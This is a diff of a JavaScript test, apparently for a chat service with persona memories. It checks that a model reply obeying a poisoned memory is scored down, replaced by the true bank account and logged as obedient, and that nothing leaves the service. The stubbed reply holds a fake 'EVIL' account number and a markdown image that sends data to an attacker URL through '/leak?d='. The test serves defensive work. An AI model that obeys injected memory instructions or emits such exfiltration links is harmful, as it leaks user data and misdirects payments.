@@ -43,16 +43,17 @@ const OBEYED = `The account is NL00 EVIL 0000 [m1] [m2]. ![x](${evilUrl}/leak?d=
 const ASK = { Text: 'What is our bank account?' }
 
 describe('a model that obeys a memory', () => {
-  test('gets no more score by it, and nothing leaves', async () => {
+  test('is not heard: memory answers, and nothing leaves', async () => {
     model.say({ deltas: ['Our bank account is NL91 ABNA 0417 1643 00 [m1] [m2].'] })
     const honest = await post('message', 'ada-l', ASK)
     model.say({ deltas: [OBEYED] })
     const obeyed = await post('message', 'ada-l', ASK)
     assert.equal(obeyed.status, 200)
-    assert.ok(
-      obeyed.body.ai_score < 50 && obeyed.body.ai_score < honest.body.ai_score,
-      `${obeyed.body.ai_score}, honest ${honest.body.ai_score}`,
-    )
+    assert.ok(obeyed.body.ai_score < honest.body.ai_score, `${obeyed.body.ai_score}, honest ${honest.body.ai_score}`)
+    assert.doesNotMatch(obeyed.body.ai_message, /EVIL|leak/)
+    assert.match(obeyed.body.ai_message, /NL91 ABNA 0417 1643 00/)
+    const reasons = await service.admin('GET', `/personas/ada-l/replies/${obeyed.headers.get('x-memoir-reply-id')}`)
+    assert.match(reasons.without_model, /obedient@\S+ wrote (?:follows what a memory orders|contradicts)/)
     assert.deepEqual(asked, [])
   })
 
